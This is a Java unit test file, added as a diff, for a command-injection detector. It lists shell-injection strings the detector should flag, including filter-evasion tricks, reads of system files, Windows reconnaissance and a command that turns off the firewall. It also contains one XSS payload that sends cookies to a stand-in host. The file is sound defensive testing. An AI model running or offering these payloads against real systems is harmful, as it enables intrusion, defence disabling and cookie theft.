@@ -1,0 +1,117 @@
+package dev.vigil.analyze.cmdi;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+/** Examples written from the shells' grammar (POSIX sh, cmd.exe, PowerShell), not from any corpus. */
+class CommandInjectionTest {
+
+    @ParameterizedTest
+    @ValueSource(strings = {
+        "8.8.8.8;uname -a",
+        "8.8.8.8; uname",
+        "x|getent group",
+        "x||hostnamectl",
+        "x && sleep 10",
+        "x & ipconfig /all",
+        "$(uname -r)",
+        "`hostname`",
+        "x;/usr/bin/uptime",
+        "x;c'a't /etc/group",
+        "x;c\"a\"t /etc/group",
+        "x;c\\at /etc/group",
+        "x;un$@ame -a",
+        "x;cat${ifs}/etc/group",
+        "x;cat$ifs$9/etc/group",
+        "{ls,-la,/}",
+        "x;/???/c?t /etc/group",
+        "x;/b??/l? -l",
+        "' ; uname #",
+        "\" | getent hosts",
+        "ls -la /var",
+        "cat /etc/group",
+        "dir c:\\users",
+        "type c:\\windows\\system.ini",
+        "systeminfo",
+        "x & net user",
+        "x | find /i \"admin\"",
+        "x; nohup uptime",
+        "x;sudo -l",
+        "x\\nuname -a",
+        "x & c:\\windows\\system32\\whoami.exe",
+        "x;get-childitem c:\\",
+        "x | iex",
+        "x;python -c 'print(1)'",
+        "x; ping -c 4 10.0.0.1",
+        "x & tasklist",
+        "x;echo $((1+1))",
+        "a) ; uptime",
+        " uname -a",
+        " sleep 20",
+        "x;id\\n",
+        "reg query hklm\\software",
+        "ipconfig /all",
+        "netsh advfirewall set allprofiles state off",
+    })
+    void detects(String value) {
+        assertThat(CommandInjection.detect(value)).as(value).isPresent();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {
+        "cats and dogs",
+        "tom & jerry",
+        "rock & roll",
+        "id",
+        "python tutorial",
+        "learn programming (python 3)",
+        "find a store near me",
+        "type of product",
+        "the cat sat; the dog ran",
+        "sort=-created_at",
+        "q&a session",
+        "r&d; sales",
+        "more info",
+        "time: 10:30",
+        "set of 4",
+        "see /about/us",
+        "{\"name\":\"x\",\"id\":3}",
+        "a, b, c",
+        "price (usd)",
+        "https://example.com/a?b=c&d=e",
+        "john.doe@example.com",
+        "2024-01-01t00:00:00z",
+        "it's a \"test\"",
+        "date desc",
+        "head office",
+        "last name",
+        "echo park",
+        "kill bill",
+        "dir=asc",
+        // a URL's '?' is a query, not a glob: an XSS payload that fetches a URL is no command
+        "<img src=x onerror=fetch('//198.51.100.9/c?'+document.cookie)>",
+        "go(//cdn.example.net/a?b)",
+    })
+    void ignores(String value) {
+        assertThat(CommandInjection.detect(value)).as(value).isEmpty();
+    }
+
+    @Test
+    void readsAnEncodedLineBreakAsASeparator() {
+        // the decoded form compressed the line break to a space; the raw form still says where it was
+        assertThat(CommandInjection.detect("8.8.8.8 id", "8.8.8.8%0aid")).isPresent();
+        assertThat(CommandInjection.detect("8.8.8.8 id", "8.8.8.8%20id")).isEmpty();
+    }
+
+    @Test
+    void staysLinearOnHostileInput() {
+        String hostile = ";".repeat(50_000) + "'".repeat(50_000) + "$(".repeat(20_000) + "c'a".repeat(20_000);
+        long t = System.nanoTime();
+        CommandInjection.detect(hostile, hostile);
+        // generous bound per kilobyte: a quadratic reading would take minutes here
+        assertThat((System.nanoTime() - t) / 1_000_000).isLessThan(2_000);
+    }
+}
